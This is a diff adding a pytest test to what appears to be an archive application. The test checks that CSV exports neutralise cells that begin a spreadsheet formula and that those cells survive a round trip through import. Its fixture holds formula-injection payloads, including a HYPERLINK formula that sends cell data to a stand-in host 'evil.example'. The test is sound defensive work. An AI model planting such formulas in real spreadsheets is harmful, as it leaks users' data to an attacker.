@@ -95,3 +95,45 @@ def test_a_stored_script_address_is_never_a_link(app, client, save):
     assert "javascript" not in json.dumps(node) and node["isBasedOn"]["citation"] == "Box 4"
     oai = client.get(f"/oai?verb=GetRecord&metadataPrefix=oai_dc&identifier=oai:localhost:{record['id']}")
     assert b"Box 4" in oai.data and b"javascript" not in oai.data
+
+
+# --- item 7: a CSV export never hands a spreadsheet a formula, and its import takes the guard off ----
+
+FORMULAS = {"title": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "summary": "+1+1",
+            "text": "\t-- a dash opens the transcript\n\nand a second paragraph",
+            "collection": "@SUM(1,1)", "accession": "'=already quoted", "rights": "'tis free",
+            "subjects": ["-minus first", "plain"], "people": [{"name": "=cmd", "role": "author"}]}
+
+
+def run_cli(home, *args, input=None):
+    from click.testing import CliRunner
+
+    from archive.cli import cli
+    return CliRunner().invoke(cli, ["--home", str(home), *args], input=input, catch_exceptions=False)
+
+
+def read_csv(text: str) -> list[dict]:
+    import csv
+    import io
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised_and_come_back_whole(tmp_path, save, client):
+    save(id="r-formula", **FORMULAS)
+    text = client.get("/export.csv").get_data(as_text=True)
+    row = read_csv(text)[0]
+    for column, cell in row.items():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert row["title"] == "'" + FORMULAS["title"] and row["accession"] == "''=already quoted"
+    assert row["rights"] == "'tis free"  # a quote before no formula stays as it is
+    sheet = tmp_path / "formulas.csv"
+    sheet.write_text(text, encoding="utf-8")
+    other = tmp_path / "other"
+    result = run_cli(other, "import", str(sheet))
+    assert result.exit_code == 0, result.output
+    run_cli(other, "export", "-o", str(tmp_path / "back.jsonl"))
+    back = [json.loads(line) for line in (tmp_path / "back.jsonl").read_text().splitlines()]
+    record = next(o for o in back if o["kind"] == "record")
+    for key, value in FORMULAS.items():
+        got = [{"name": p["name"], "role": p["role"]} for p in record[key]] if key == "people" else record[key]
+        assert got == value, key
